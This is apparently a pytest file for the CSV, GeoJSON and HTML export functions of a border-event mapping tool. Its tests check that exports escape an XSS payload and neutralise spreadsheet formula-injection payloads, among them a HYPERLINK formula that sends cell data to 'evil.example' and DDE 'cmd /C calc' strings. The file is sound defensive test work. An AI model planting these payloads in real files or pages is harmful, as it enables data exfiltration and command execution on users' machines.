import datetime as dt
import io
import json
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
from sample_data import EVENTS, MALICIOUS, event, write_data_dir, write_stub_vendor

from borderwatch import export
from borderwatch.data.eventtable import event_table
from borderwatch.data.loader import load_dataset
from borderwatch.data.store import FrameStore
from borderwatch.data.vocab import EVENT_COLUMNS, OPTIONAL_EVENT_COLUMNS
from borderwatch.map.viewport import Detail


def points(events) -> Detail:
    """Every event drawn one by one, as the map does when they fit its point budget."""
    return Detail("points", events, len(events))


REPO = Path(__file__).resolve().parents[1]
ALL_COLUMNS = [*EVENT_COLUMNS, *OPTIONAL_EVENT_COLUMNS]


@pytest.fixture
def ds(tmp_path):
    rows = [*EVENTS, event(event_id="BW-2021-0099", summary=MALICIOUS)]
    return load_dataset(write_data_dir(tmp_path / "data", rows))


@pytest.fixture
def vendor(tmp_path):
    root = write_stub_vendor(tmp_path / "vendor")
    css = root / "fontawesome-free@6.2.0/css/all.min.css"
    css.write_text(
        '@font-face{src:url(../webfonts/fa-solid-900.woff2) format("woff2"),'
        'url(../webfonts/fa-solid-900.ttf) format("truetype")}'
    )
    (root / "fontawesome-free@6.2.0/webfonts").mkdir()
    (root / "fontawesome-free@6.2.0/webfonts/fa-solid-900.woff2").write_bytes(b"wOF2")
    return root


def test_csv_reads_back_as_the_same_events(ds, tmp_path):
    again = tmp_path / "again"
    shutil.copytree(ds.data_dir, again)
    (again / "events.csv").write_bytes(export.to_csv(ds.events))
    back = load_dataset(again).events
    pd.testing.assert_frame_equal(
        event_table(back), export.event_table(ds.events), check_dtype=False
    )
    assert export.to_csv(ds.events).decode().splitlines()[0] == ",".join(EVENT_COLUMNS)


def test_csv_keeps_text_exactly_as_written(ds):
    assert MALICIOUS in export.to_csv(ds.events).decode()


def test_geojson_has_one_point_feature_per_event_with_every_column(ds):
    data = json.loads(export.to_geojson(ds.events))
    assert len(data["features"]) == len(ds.events) == 8
    first = data["features"][0]
    assert first["geometry"] == {"type": "Point", "coordinates": [67.4333, 37.2167]}
    assert first["properties"]["event_id"] == "BW-2021-0001"
    assert first["properties"]["date_start"] == "2021-06-23"
    assert list(first["properties"]) == list(EVENT_COLUMNS)
    assert (first["properties"]["latitude"], first["properties"]["longitude"]) == (37.2167, 67.4333)


def test_standalone_html_inlines_every_asset_when_they_are_present(ds, vendor):
    html, offline = export.standalone_html(
        FrameStore(ds),
        points(ds.events),
        dt.date(2021, 7, 13),
        title="Hairatan <b>",
        vendor_dir=vendor,
    )
    text = html.decode()
    assert offline is True
    assert re.findall(r'<(?:script|link)[^>]+(?:src|href)="', text) == []
    assert "tile.openstreetmap" not in text
    assert 'url("data:font/woff2;base64,d09GMg==")' in text
    assert ".ttf" not in text
    assert "<title>Hairatan &lt;b&gt;</title>" in text
    assert MALICIOUS not in text  # only its escaped form
    assert "&lt;img src=x onerror=alert(1)&gt;" in text


def test_standalone_html_draws_crossings_as_known_on_its_date(ds, vendor):
    store, shown = FrameStore(ds), points(ds.events)
    late, _ = export.standalone_html(store, shown, dt.date(2021, 9, 30), vendor_dir=vendor)
    assert "last report 13 Jul 2021 (79 days old, unconfirmed)" in late.decode()
    strict, _ = export.standalone_html(
        store, shown, dt.date(2021, 9, 30), vendor_dir=vendor, stale_days=90
    )
    assert "(79 days old, unconfirmed)" not in strict.decode()
    assert "last report 13 Jul 2021 (79 days old)" in strict.decode()


def test_standalone_html_links_the_cdns_when_the_assets_are_missing(ds, tmp_path):
    html, offline = export.standalone_html(
        FrameStore(ds), points(ds.events), None, vendor_dir=tmp_path / "none"
    )
    assert offline is False
    assert '<script src="https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js">' in (
        html.decode()
    )


def test_inline_css_leaves_remote_and_data_urls_alone(tmp_path):
    css = 'a{background:url("data:image/png;base64,AA")} b{background:url(https://x/y.png)}'
    assert export.inline_css(css, tmp_path) == css


def test_download_names_carry_the_date_range():
    assert export.filename("borderwatch", dt.date(2021, 6, 1), dt.date(2021, 7, 31), ".csv") == (
        "borderwatch_2021-06-01_2021-07-31.csv"
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_csv_download_turns_every_planted_formula_into_text_and_leaves_numbers_alone(tmp_path):
    rows = [
        event(event_id=f"BW-2021-09{i:02d}", summary=f, actors=f, longitude="-67.4333")
        for i, f in enumerate(FORMULAS)
    ]
    folder = write_data_dir(tmp_path / "data", rows)
    ds = load_dataset(folder)
    table = pd.read_csv(io.BytesIO(export.to_csv(ds.events)), dtype=str, keep_default_na=False)
    assert table["summary"].tolist() == ["'" + f for f in FORMULAS]
    assert table["actors"].tolist() == ["'" + f for f in FORMULAS]
    assert set(table["longitude"]) == {"-67.4333"}
    # The data file itself keeps the exact text: what the editor wrote round-trips.
    assert load_dataset(folder).events["summary"].tolist() == FORMULAS


def test_cells_starting_with_a_tab_or_a_cr_are_neutralised_too():
    table = pd.DataFrame({"summary": ["\t=1+1", "\r=1+1", "plain", "-12.5", "-"]})
    out = export.neutralise_formulas(table)
    assert out["summary"].tolist() == ["'\t=1+1", "'\r=1+1", "plain", "-12.5", "'-"]


def test_csv_and_geojson_downloads_and_the_record_carry_the_optional_columns(tmp_path):
    row = event(original_type="Riots / Violent demonstration", original_source="Tolo News")
    folder = tmp_path / "data"
    write_data_dir(folder, [])
    columns = ",".join(ALL_COLUMNS)
    values = ",".join(f'"{row.get(c, "")}"' for c in ALL_COLUMNS)
    (folder / "events.csv").write_text(f"{columns}\n{values}\n", encoding="utf-8")
    ds = load_dataset(folder)
    csv_row = export.to_csv(ds.events).decode().splitlines()[1]
    assert csv_row.endswith(",reported,Riots / Violent demonstration,Tolo News")
    props = json.loads(export.to_geojson(ds.events))["features"][0]["properties"]
    assert props["original_source"] == "Tolo News"
    assert export.event_table(ds.events).iloc[0]["original_type"] == row["original_type"]


def test_downloads_built_batch_by_batch_equal_the_whole_table(ds):
    events = ds.events.copy()
    events.loc[events.index[-1], "sequence"] = 3  # an optional column used in one batch only

    def batches():
        return (events.iloc[i : i + 3] for i in range(0, len(events), 3))

    assert export.csv_from_batches(batches) == export.to_csv(events)
    whole = json.loads(export.to_geojson(events))["features"]
    assert json.loads(export.geojson_from_batches(batches))["features"] == whole
    none = events.iloc[0:0]
    assert export.csv_from_batches(lambda: iter([none])) == export.to_csv(none)
